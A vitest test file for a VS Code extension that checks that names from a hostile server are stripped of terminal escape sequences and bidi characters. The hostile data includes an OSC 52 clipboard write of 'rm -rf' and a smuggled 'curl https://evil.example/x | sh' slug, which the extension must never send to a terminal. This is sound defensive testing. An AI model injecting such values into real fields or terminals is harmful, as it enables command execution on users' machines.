import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ApiClient, CredentialStore, mintToken } from "@claudemesh/sdk";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ClaudemeshAuthenticationProvider } from "../src/auth-provider.js";
import { registerCommands } from "../src/commands.js";
import { Identity } from "../src/identity.js";
import { createStatusBar } from "../src/status-bar.js";
import { InfoNode, type TreeNode } from "../src/views/tree-node.js";
import { accountRows, meshRows, sessionRows, tokenRows } from "../src/views/trees.js";
import { commands, messages, resetFake, statusBarItems, terminals } from "./fake-vscode.js";

const API_URL = "http://127.0.0.1:9";
const WHEN = "2026-01-01T00:00:00.000Z";
// A window title (OSC 0), a clipboard write (OSC 52), a carriage return over a fake line, a C1 CSI and a bidi override.
const hostile = (letters: string) => `\u001b]0;pwned\u0007\u001b]52;c;cm0gLXJm\u0007${letters}\r\u009b31m\u202e\u2066`;
/** The characters `hostile` adds; none may reach a label. */
const FORBIDDEN = ["\u001b", "\u0007", "\r", "\u009b", "\u202e", "\u2066"];
const unsafe = (text = "") => FORBIDDEN.some((character) => text.includes(character));

/** A hostile server behind fetch, answering the SDK's real ApiClient. */
const hostileServer: typeof fetch = async (input, init) => {
  const { pathname } = new URL(new Request(input, init).url);
  const bodies: Record<string, unknown> = {
    "/api/my/whoami": {
      user: { id: "u1", name: hostile("Ada Lovelace"), email: "ada@example.test" },
      credential: { kind: "pat", id: "t1", name: hostile("ci deploy"), expires_at: null },
    },
    "/api/my/meshes": {
      meshes: [
        {
          id: "m1",
          name: hostile("Platform team"),
          slug: "platform-team",
          role: "owner",
          member_count: 2,
          created_at: WHEN,
          joined_at: WHEN,
        },
      ],
    },
    "/api/my/meshes/platform-team/peers": {
      members: [
        {
          member_id: "u2",
          name: hostile("Bo Peer"),
          mesh_role: "member",
          online: true,
          last_seen_at: WHEN,
          sessions: [
            {
              member_id: "u2",
              session_id: "session-1",
              display_name: hostile("bo-laptop"),
              role: hostile("reviewer"),
              host: hostile("bo-box"),
              kind: "cli",
              connected_at: WHEN,
            },
          ],
        },
      ],
    },
    "/api/my/meshes/platform-team/grants": { peers: {} },
    "/api/my/cli/sessions": {
      sessions: [
        {
          id: "s1",
          device_name: hostile("ada-laptop"),
          device_os: "linux",
          device_arch: "x64",
          ip_address: null,
          created_at: WHEN,
          last_used_at: null,
          expires_at: null,
          current: true,
        },
      ],
    },
    "/api/my/cli/tokens": {
      tokens: [{ id: "t1", name: hostile("ci deploy"), created_at: WHEN, last_used_at: null, expires_at: null }],
    },
  };
  return Response.json(bodies[pathname] ?? {});
};

/** What Node's fetch rejects with when nothing listens. */
const unreachable: typeof fetch = async () => {
  throw new TypeError("fetch failed", {
    cause: Object.assign(new Error("connect ECONNREFUSED"), { code: "ECONNREFUSED" }),
  });
};

let configDir = "";
let disposables: { dispose(): unknown }[] = [];
beforeEach(async () => {
  resetFake();
  configDir = await mkdtemp(join(tmpdir(), "claudemesh-hostile-vscode-"));
  disposables = [];
});
afterEach(async () => {
  for (const item of disposables) item.dispose();
  await rm(configDir, { recursive: true, force: true });
});

function identityWith(fetch: typeof globalThis.fetch, envToken?: string): Identity {
  const store = new CredentialStore({ apiUrl: API_URL, configDir, mode: "file" });
  const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, fetch, retries: 0 });
  const identity = new Identity({ store, envToken, api });
  disposables.push(identity);
  return identity;
}

/** Each row as it reads: label, then description. */
const labels = (rows: TreeNode[]) =>
  rows.map((row) => {
    const item = row.treeItem();
    return `${typeof item.label === "string" ? item.label : item.label?.label} ${item.description ?? ""}`;
  });

describe("names a hostile server sends", () => {
  it("show as their letters in the status bar, the trees and the Accounts menu", async () => {
    const identity = identityWith(hostileServer, mintToken("pat"));
    disposables.push(createStatusBar(identity, () => API_URL));
    await identity.refresh();

    const item = statusBarItems[0];
    expect(item?.text).toBe("$(account) ]0;pwned]52;c;cm0gLXJmAda Lovelace31m");
    expect(unsafe(item?.tooltip)).toBe(false);

    const provider = new ClaudemeshAuthenticationProvider({
      identity,
      signIn: async () => {},
      signOut: async () => {},
    });
    disposables.push(provider);
    const [session] = await provider.getSessions();
    expect(session?.account.label).toBe("]0;pwned]52;c;cm0gLXJmAda Lovelace31m");

    const meshes = await meshRows(identity);
    const members = (await meshes[0]?.children?.()) ?? [];
    const rows = [
      ...labels(await accountRows(identity, API_URL)),
      ...labels(meshes),
      ...labels(members),
      ...labels((await members[0]?.children?.()) ?? []),
      ...labels(await sessionRows(identity)),
      ...labels(await tokenRows(identity)),
    ];
    expect(rows.filter((row) => unsafe(row))).toEqual([]);
    expect(rows.join("\n")).toContain("Ada Lovelace");
    expect(rows.join("\n")).toContain("Platform team");
    expect(rows.join("\n")).toContain("]0;pwned]52;c;cm0gLXJmBo Peer31m online · 1 session");
    expect(rows.join("\n")).toContain("bo-laptop31m cli · ]0;pwned]52;c;cm0gLXJmreviewer31m");
    expect(rows.join("\n")).toContain("ada-laptop");
    expect(rows.join("\n")).toContain("ci deploy");
  });

  it("show as their letters when only auth.json knows them (the server is unreachable)", async () => {
    const saved = {
      version: 1,
      token: mintToken("session"),
      token_store: "file",
      token_kind: "session",
      api_url: API_URL,
      user: { id: "u1", name: hostile("Ada Lovelace"), email: "ada@example.test" },
      created_at: WHEN,
      expires_at: null,
      source: "device-code",
    };
    await writeFile(join(configDir, "auth.json"), JSON.stringify(saved), { mode: 0o600 });
    const identity = identityWith(unreachable);
    disposables.push(createStatusBar(identity, () => API_URL));
    expect((await identity.refresh()).kind).toBe("unreachable");

    expect(statusBarItems[0]?.text).toBe("$(cloud-offline) ]0;pwned]52;c;cm0gLXJmAda Lovelace31m");
    const rows = labels(await accountRows(identity, API_URL));
    expect(rows.filter((row) => unsafe(row))).toEqual([]);
    expect(rows.join("\n")).toContain("Ada Lovelace");
  });

  it("a mesh slug that is not one is never typed into a terminal", async () => {
    const identity = identityWith(hostileServer, mintToken("pat"));
    const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, fetch: hostileServer });
    disposables.push(
      ...registerCommands({
        identity,
        api,
        apiUrl: () => API_URL,
        refreshTrees: () => {},
        signIn: () => Promise.reject(new Error("not here")),
      }),
    );
    const planted = new InfoNode("platform-team", { resource: "platform-team; curl https://evil.example/x | sh" });
    await commands.executeCommand("claudemesh.meshes.launch", planted);
    expect(terminals).toEqual([]);
    expect(messages.map((message) => message.kind)).toEqual(["error"]);

    await commands.executeCommand("claudemesh.meshes.launch", new InfoNode("ok", { resource: "platform-team" }));
    expect(terminals[0]?.sent).toEqual(["claudemesh launch --mesh platform-team"]);
  });
});
